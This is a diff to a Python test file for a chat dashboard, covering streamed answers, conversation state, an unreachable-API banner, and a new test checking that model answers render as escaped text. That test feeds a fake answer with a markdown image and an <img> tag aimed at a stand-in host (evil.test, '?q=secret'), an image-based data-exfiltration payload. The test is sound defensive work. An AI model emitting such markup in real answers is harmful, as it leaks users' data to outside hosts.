@@ -17,6 +17,7 @@ from assistant.services import Services
 from dashboards.chat import ChatPage, memories_frame, tools_frame, used_panel
 from dashboards.chat_client import HttpChatClient, LocalChatClient, explain_template
 from dashboards.client import ClientError
+from dashboards.text import literal_html, literal_markdown
 
 MEMORY = "My sister Ada lives in Lisbon"
 
@@ -43,11 +44,20 @@ def collect(stream) -> list[tuple[str, dict[str, Any]]]:  # noqa: ANN001
     return asyncio.run(run())
 
 
-def answers(page: ChatPage, message: str) -> list[Any]:
-    async def run() -> list:
-        return [item async for item in page.respond(message, "User", page.chat)]
+class Recording:
+    """A client whose stream is the wrapped one's, noting what the page's answer showed after each event."""
 
-    return asyncio.run(run())
+    def __init__(self, inner, page_of) -> None:  # noqa: ANN001
+        self.inner, self.page_of, self.shown = inner, page_of, []
+
+    async def stream(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
+        async for item in self.inner.stream(*args, **kwargs):
+            yield item
+            answer = self.page_of().feed.objects[-1].objects[1]
+            self.shown.append(answer.object)
+
+    def explain_url(self, done):  # noqa: ANN001, ANN201
+        return self.inner.explain_url(done)
 
 
 @pytest.fixture
@@ -111,29 +121,39 @@ def test_the_explain_link_only_when_the_route_exists(client, api_key) -> None:  
 
 
 def test_the_page_streams_and_keeps_the_conversation(services, local, model) -> None:  # noqa: ANN001
-    page = ChatPage(local)
+    page: ChatPage | None = None
+    recording = Recording(local, lambda: page)
+    page = ChatPage(recording)
     model.enqueue("Ada lives in Lisbon.")
-    steps = answers(page, MEMORY)
-    assert steps[0] != steps[-2] and steps[-2] == "Ada lives in Lisbon."  # grows delta by delta
-    final = steps[-1]
-    assert isinstance(final, pn.Column) and final.objects[0].object == "Ada lives in Lisbon."
-    used = final.objects[1]
+    page.input.value = MEMORY
+    done = asyncio.run(page.send(page.input.value))
+    assert page.input.value == "" and done["conversation_id"] == page.conversation_id
+    deltas = [shown for shown in recording.shown[:-1]]
+    assert len(deltas) >= 2 and deltas[0] != deltas[-1]  # the answer grew delta by delta
+    assert deltas[-1] == literal_html("Ada lives in Lisbon.", "answer-text")
+    user, reply = page.feed.objects
+    assert MEMORY in user.object
+    assert reply.objects[1].object == literal_html("Ada lives in Lisbon.", "answer-text")
+    used = reply.objects[2]
     table = next(o for o in used.objects if isinstance(o, pn.widgets.Tabulator))
     assert list(table.value["content"]) == [MEMORY]
     first = page.conversation_id
     assert first and first in page.conversation.object and not page.banner.visible
     model.enqueue("Yes.")
-    answers(page, "Thanks")
-    assert page.conversation_id == first
+    asyncio.run(page.send("Thanks"))
+    assert page.conversation_id == first and len(page.feed.objects) == 4
+    assert asyncio.run(page.send("   ")) is None and len(page.feed.objects) == 4
     page.new_conversation()
-    assert page.conversation_id is None
+    assert page.conversation_id is None and page.feed.objects == []
 
 
 def test_the_page_shows_a_banner_when_the_api_is_unreachable() -> None:
     page = ChatPage(HttpChatClient("http://127.0.0.1:9", "k", timeout=5))
-    steps = answers(page, "hello")
+    assert asyncio.run(page.send("hello")) is None
     assert page.banner.visible and "did not answer" in page.banner.object
-    assert "no answer" in steps[-1].object
+    answer = page.feed.objects[-1].objects[1]
+    assert "no answer" in answer.object and "chat-failed" in answer.css_classes
+    assert not page.busy and not page.send_button.disabled
 
 
 def test_the_used_panel_without_memories_or_tools() -> None:
@@ -143,3 +163,13 @@ def test_the_used_panel_without_memories_or_tools() -> None:
     linked = used_panel(done, "http://api.test/api/chat/m1/explain")
     assert "(http://api.test/api/chat/m1/explain)" in linked.objects[-1].object
     assert json.dumps(done)  # the shape stays plain JSON
+
+
+def test_an_answer_is_shown_as_text_never_as_markup(local, model) -> None:  # noqa: ANN001
+    page = ChatPage(local)
+    model.enqueue("See ![x](https://evil.test/?q=secret) and <img src=https://evil.test/a.png>")
+    asyncio.run(page.send("hi"))
+    shown = page.feed.objects[-1].objects[1].object
+    assert "<img" not in shown and "&lt;img" in shown and "![x](https://evil.test/?q=secret)" in shown
+    assert isinstance(page.feed.objects[-1].objects[1], pn.pane.HTML)  # not Markdown: the image syntax stays text
+    assert literal_markdown("![x](http://e/) <b>") == r"\!\[x\]\(http://e/\) &lt;b&gt;"
